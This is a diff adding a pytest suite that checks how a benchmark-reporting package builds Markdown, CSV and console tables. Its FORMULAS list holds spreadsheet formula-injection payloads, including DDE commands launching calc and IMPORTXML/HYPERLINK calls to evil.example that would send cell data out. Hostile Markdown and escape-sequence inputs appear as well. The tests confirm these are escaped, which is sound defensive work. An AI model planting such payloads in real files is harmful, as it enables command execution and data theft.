@@ -1,0 +1,158 @@
+"""Markdown, CSV and console tables."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.console import Console
+
+from llmrec.errors import LlmrecError
+from llmrec.report.page import write
+from llmrec.report.table import CSV_COLUMNS, cell, console_tables, csv_cell, csv_text, markdown
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example","open")',
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "+1+1",
+    "+cmd|' /C notepad'!'A1'",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@import",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+    "=1+1\",\"=2+2",
+    "\x00=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+)  # fmt: skip
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+def _lines(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_numbers_equal_results(run_dir: Path, results: dict[str, Any]) -> None:
+    lines = _lines(write(run_dir)["csv"].read_text("utf-8"))
+    assert tuple(lines[0]) == CSV_COLUMNS
+    found = {(line["row"], line["metric"]): line for line in lines}
+    assert len(found) == len(lines) == sum(len(row["metrics"]) for row in results["rows"])
+    for row in results["rows"]:
+        for name, metric in row["metrics"].items():
+            line = found[row["id"], name]
+            assert [float(line[key]) for key in ("value", "low", "high")] == [
+                metric["value"],
+                metric["low"],
+                metric["high"],
+            ]
+            assert line["signature"] == metric["signature"]
+            assert float(line["parse_rate"]) == row["parse_rate"] and float(line["tie_rate"]) == row["tie_rate"]
+            assert int(line["n"]) == row["n"] and int(line["shots"]) == row["shots"]
+            assert float(line["seconds"]) == row["cost"]["seconds"]
+            assert int(line["prompt_tokens"]) == row["cost"]["prompt_tokens"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_no_csv_cell_is_a_formula(results: dict[str, Any], payload: str) -> None:
+    row = results["rows"][0]
+    row.update(predictor=payload, template=payload, template_use=payload, engine=payload, inputs=payload)
+    lines = _lines(csv_text(results))
+    assert len(lines) == sum(len(row["metrics"]) for row in results["rows"])
+    mine = next(line for line in lines if line["row"] == row["id"])
+    for key in ("predictor", "template", "template_use", "engine", "inputs"):
+        assert not mine[key].startswith(STARTS)
+        assert mine[key] == "'" + payload.replace("\x00", "")
+
+
+def test_negative_numbers_stay_numbers(results: dict[str, Any]) -> None:
+    results["rows"][0]["metrics"]["RMSE"].update(value=-0.25, low=-1.0, high=-1e-9)
+    line = next(
+        line
+        for line in _lines(csv_text(results))
+        if line["row"] == results["rows"][0]["id"] and line["metric"] == "RMSE"
+    )
+    assert (line["value"], line["low"], line["high"]) == ("-0.25", "-1.0", "-1e-09")
+
+
+@given(st.one_of(st.text(), st.floats(allow_nan=False), st.integers(), st.none()))
+def test_csv_cell_round_trip(value: str | float | int | None) -> None:
+    text = csv_cell(value)
+    if isinstance(value, str):
+        assert not text.startswith(STARTS)
+        assert text.removeprefix("'") == value.replace("\x00", "").removeprefix("'")
+    elif value is not None:
+        assert float(text) == value
+
+
+# --------------------------------------------------------------------------- Markdown
+
+
+@given(st.text())
+def test_markdown_cell_holds_no_markup(text: str) -> None:
+    shown = cell(text)
+    assert "<" not in shown and ">" not in shown and not re.search(r"[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", shown)
+    # After the escaped characters are taken away, none that could mark up is left.
+    assert not re.search(r"[`*|~$#\\]|\]\(", re.sub(r"\\.", "", shown))
+
+
+def test_markdown_table_keeps_its_shape_under_hostile_names(results: dict[str, Any]) -> None:
+    row = results["rows"][0]
+    row.update(predictor="a | b `c` <script>\n| d |", engine="![x](http://evil.example/p.png)", template="x/y|z\r\n# h")
+    text = markdown(results)
+    table = [line for line in text.split("### ")[1].splitlines() if line.startswith("|")]
+    assert len(table) == 2 + sum(entry["task"] == "rating" for entry in results["rows"])
+    assert {len(re.findall(r"(?<!\\)\|", line)) for line in table} == {len(re.findall(r"(?<!\\)\|", table[0]))}
+    assert "<script>" not in text and "](http" not in text and "&lt;script&gt;" in text
+
+
+def test_markdown_orders_rows_and_marks_the_best(results: dict[str, Any]) -> None:
+    text = markdown(results)
+    rating = text.split("### Rating prediction")[1].split("###")[0].splitlines()
+    rows = [line for line in rating if line.startswith("| ") and "---" not in line][1:]
+    assert rows[0].startswith("| user-item-bias (baseline) | **0.930** [0.865, 1.002]")
+    assert rows[-1].startswith("| zero-shot · expected · half-stars | 1.310")
+    assert sum("(baseline)" in row for row in rows) == 4
+    assert "| rating/unseen-half-stars (unseen) |" in text
+    assert "contradicted" in text.split("### Comparisons")[1]
+
+
+def test_tables_refuse_mixed_protocols(results: dict[str, Any]) -> None:
+    results["rows"][0]["metrics"]["RMSE"]["signature"] += "|other:yes"
+    for make in (markdown, csv_text, console_tables):
+        with pytest.raises(LlmrecError, match="different protocols"):
+            make(results)
+
+
+# --------------------------------------------------------------------------- console
+
+
+def test_console_shows_rows_in_order_and_nothing_hidden(results: dict[str, Any]) -> None:
+    results["rows"][0]["predictor"] = "[red]\x1b[31mx\x07[/red]"
+    tables = console_tables(results)
+    assert len(tables) == 5
+    console = Console(width=140, record=True, file=io.StringIO(), force_terminal=True)
+    console.print(*tables)
+    text = console.export_text()
+    assert "[red][U+001B][31mx[U+0007][/red]" in text
+    assert text.index("user-item-bias") < text.index("item-mean") < text.index("global-mean")
+    assert "0.930" in text and "[0.865, 1.002]" in text
+
+
+def test_console_fits_eighty_columns(results: dict[str, Any]) -> None:
+    console = Console(width=80, record=True, file=io.StringIO())
+    console.print(*console_tables(results))
+    assert max(len(line) for line in console.export_text().splitlines()) <= 80
